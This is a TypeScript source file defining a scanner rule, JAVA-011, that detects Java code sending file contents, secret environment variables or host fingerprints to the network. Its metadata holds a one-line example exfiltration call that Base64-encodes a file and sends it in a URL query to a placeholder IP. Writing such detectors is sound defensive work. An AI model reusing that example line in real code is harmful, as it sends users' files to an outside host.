import type { JavaRule } from '../engine.js';
import type { CallSite } from '../interpret.js';
import { describeValue } from '../interpret.js';
import { CONTEXT_PHRASE, isEarly, java, renderCall, taintOf } from './helpers.js';

/** Calls whose argument leaves the machine: URL/URI construction, DNS names, request bodies, network stream writes. */
function isSink(call: CallSite): boolean {
  const { owner, name } = call.ref;
  if ((owner === 'java/net/URL' || owner === 'java/net/URI') && name === '<init>') return true;
  if (owner === 'java/net/URI' && name === 'create') return true;
  if (owner === 'java/net/InetAddress' && (name === 'getByName' || name === 'getAllByName')) return true;
  if (owner === 'java/net/http/HttpRequest$BodyPublishers') return true;
  if (
    owner === 'java/net/http/HttpRequest$Builder' &&
    (name === 'uri' || name === 'POST' || name === 'header')
  )
    return true;
  // Writes count only into streams that lead to a socket or URL connection (wrappers included).
  return (
    /^java\/io\/(OutputStream|DataOutputStream|BufferedOutputStream|PrintStream|PrintWriter|OutputStreamWriter|BufferedWriter|Writer)$/.test(
      owner,
    ) &&
    /^(write|writeBytes|writeUTF|print|println)$/.test(name) &&
    !!call.receiver?.src?.includes('network')
  );
}

/** Flags data read from files or the secret environment flowing into a network request. */
export const exfiltration: JavaRule = {
  meta: {
    ...java,
    id: 'JAVA-011',
    name: 'java-data-exfiltration',
    category: 'exfiltration',
    severity: 'high',
    confidence: 'medium',
    description:
      'Data read from files or credential environment variables flows (within a method) into a URL, DNS name, request body or socket write.',
    rationale:
      'Stealers encode what they read and send it in a query string, a DNS label or a POST body; following the value from the read to the request shows the theft, not just the capability.',
    falsePositives:
      'Uploaders and sync clients that send user-chosen files; configuration read from a file that names a URL (rated medium unless the data is also Base64-encoded or secret-bearing).',
    example:
      'new URL("http://192.0.2.1/c?d=" + Base64.getUrlEncoder().encodeToString(Files.readAllBytes(p))).openStream()',
    references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1048/'],
  },
  create(ctx) {
    return {
      class(unit) {
        for (const m of unit.methods) {
          for (const call of m.summary.calls) {
            if (!isSink(call)) continue;
            const taint = taintOf(...call.args);
            if (!taint.has('file') && !taint.has('env')) {
              // Host fingerprints (user, host name, OS) sent by code that runs on its own: a beacon.
              if (taint.has('host') && isEarly(m.context)) {
                ctx.report({
                  at: m,
                  pc: call.pc,
                  code: renderCall(call),
                  category: 'recon',
                  severity: 'medium',
                  message: `Sends host facts (system properties, host or user name) over the network via ${renderCall(call).slice(0, 80)} ${CONTEXT_PHRASE[m.context]}.`,
                  evidence: { taint: [...taint], sink: `${call.ref.owner}.${call.ref.name}` },
                });
                return;
              }
              continue;
            }
            const strong = taint.has('encoded') || taint.has('env');
            ctx.report({
              at: m,
              pc: call.pc,
              code: renderCall(call),
              severity: strong ? 'high' : 'medium',
              message: `Sends ${taint.has('env') ? 'secret environment values' : 'file contents'}${taint.has('encoded') ? ' (Base64-encoded)' : ''} over the network via ${renderCall(call).slice(0, 80)}.`,
              evidence: {
                taint: [...taint],
                sink: `${call.ref.owner}.${call.ref.name}`,
                value: describeValue(call.args[0], 200),
              },
            });
            return; // one finding per class
          }
        }
      },
    };
  },
};
